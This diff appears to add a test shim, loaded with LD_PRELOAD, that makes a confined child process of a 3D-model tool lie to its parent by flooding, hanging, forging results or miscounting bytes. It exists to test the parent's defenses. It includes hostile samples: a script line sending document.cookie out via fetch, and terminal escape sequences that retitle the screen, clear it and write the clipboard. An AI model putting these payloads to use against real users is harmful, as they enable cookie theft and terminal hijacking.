@@ -1,0 +1,136 @@
+// Loaded into a real tool with LD_PRELOAD, it makes one of the tool's confined children lie to its
+// parent at its first read of the input, as a child taken over by a hostile file would:
+//   OLVANTA_LIE     flood                 hundreds of MB on its report, as fast as the pipe takes them
+//                   hang                  nothing more, for ever
+//                   judgement             "in the viewer's form", with believable numbers
+//                   done-miscounted       a small mesh written, a byte count one more than that
+//                   done-unwritten        a believable byte count, nothing written
+//                   pixels-miscounted     a picture four bytes short
+//                   pixels-not-a-picture  exactly as many bytes as the pixels, of a script's text
+//                   control-characters    a failure whose words clear the screen, retitle and
+//                                         write the clipboard of the terminal they reach
+//   OLVANTA_LIE_IN  which process lies: "PROGRAM KIND FDS" of role_of_this_process
+//   OLVANTA_LIE_PIXELS  the bytes of the picture the drawing child owes
+// Each process says "@@ PID ROLE" in the shared memory at its first read of the input, the lying
+// one adds " lies: LIE"; every other process reads on as it would.
+#include <stdlib.h>
+#include <unistd.h>
+
+#include <cstring>
+#include <string>
+
+#include "first_read.h"
+#include "viewers_form.h"
+
+namespace {
+
+const int report_descriptor = 3, output_descriptor = 5;
+
+std::string from_environment(const char* name)
+{
+    const char* value = getenv(name);
+    return value ? value : "";
+}
+
+// The role without what the process reads: the test names a process by what it is.
+std::string who(const std::string& role)
+{
+    const std::size_t kind_end = role.find(' ', role.find(' ') + 1);
+    const std::size_t reads_end = role.find(' ', kind_end + 1);
+    return role.substr(0, kind_end) + (reads_end == std::string::npos ? "" : role.substr(reads_end));
+}
+
+bool put(int fd, const std::string& bytes)
+{
+    std::size_t done = 0;
+    while (done < bytes.size()) {
+        const ssize_t n = write(fd, bytes.data() + done, bytes.size() - done);
+        if (n <= 0)
+            return false;
+        done += std::size_t(n);
+    }
+    return true;
+}
+
+// Its first byte is a picture's, so a parent that took the first bytes of a flood for a picture
+// would show it.
+[[noreturn]] void flood()
+{
+    std::string block(1 << 20, 'x');
+    block[0] = 'p';
+    for (int sent = 0; sent < 512 && put(report_descriptor, block); ++sent) {
+    }
+    _exit(0);
+}
+
+[[noreturn]] void hang()
+{
+    for (;;)
+        sleep(1000);
+}
+
+[[noreturn]] void forge_a_judgement()
+{
+    const FormJudgement judgement{true, 8, 6, ModelBounds{{0, 0, 0}, {1, 1, 1}}, false, 0};
+    _exit(put(report_descriptor, std::string(reinterpret_cast<const char*>(&judgement), sizeof judgement)) ? 0 : 1);
+}
+
+// Long enough for three vertices and a face by the parent's count, so that only the length of
+// the output can give the lie away.
+const std::string small_mesh = "# made by the converter\nVertex 1 0 0 0 {normal=(0 0 1)}\n"
+                               "Vertex 2 1 0 0 {normal=(0 0 1)}\nVertex 3 0 1 0 {normal=(0 0 1)}\nFace 1 1 2 3\n";
+
+[[noreturn]] void forge_success(bool write_the_mesh)
+{
+    std::size_t claimed = small_mesh.size();
+    if (write_the_mesh) {
+        put(output_descriptor, small_mesh);
+        ++claimed;
+    }
+    _exit(put(report_descriptor, "importing\nconverting\ndone 3 1 " + std::to_string(claimed) + "\n") ? 0 : 1);
+}
+
+[[noreturn]] void forge_pixels(bool miscounted)
+{
+    const std::size_t owed = std::size_t(atol(from_environment("OLVANTA_LIE_PIXELS").c_str()));
+    std::string said = "p";
+    const std::string script = "<script>fetch('http://127.0.0.1/'+document.cookie)</script>\n";
+    while (said.size() < 1 + owed)
+        said += script;
+    said.resize(1 + owed - (miscounted ? 4 : 0));
+    _exit(put(report_descriptor, said) ? 0 : 1);
+}
+
+const char* const hostile_words = "\033]0;owned\007\033[2J\033]52;c;b3duZWQ=\007\r\bhidden";
+
+[[noreturn]] void say_control_characters(const std::string& role)
+{
+    const bool drawing = role.find(" drawing ") != std::string::npos;
+    put(report_descriptor, drawing ? std::string("d") + hostile_words : std::string("error ") + hostile_words + "\n");
+    _exit(1);
+}
+
+} // namespace
+
+void on_first_read_of_input(int fd)
+{
+    const std::string role = role_of_this_process(fd), lie = from_environment("OLVANTA_LIE");
+    const std::string heading = "@@ " + std::to_string(getpid()) + " " + role;
+    if (who(role) != from_environment("OLVANTA_LIE_IN")) {
+        tell(heading + "\n");
+        return;
+    }
+    tell(heading + " lies: " + lie + "\n");
+    if (lie == "flood")
+        flood();
+    if (lie == "hang")
+        hang();
+    if (lie == "judgement")
+        forge_a_judgement();
+    if (lie == "done-miscounted" || lie == "done-unwritten")
+        forge_success(lie == "done-miscounted");
+    if (lie == "pixels-miscounted" || lie == "pixels-not-a-picture")
+        forge_pixels(lie == "pixels-miscounted");
+    if (lie == "control-characters")
+        say_control_characters(role);
+}
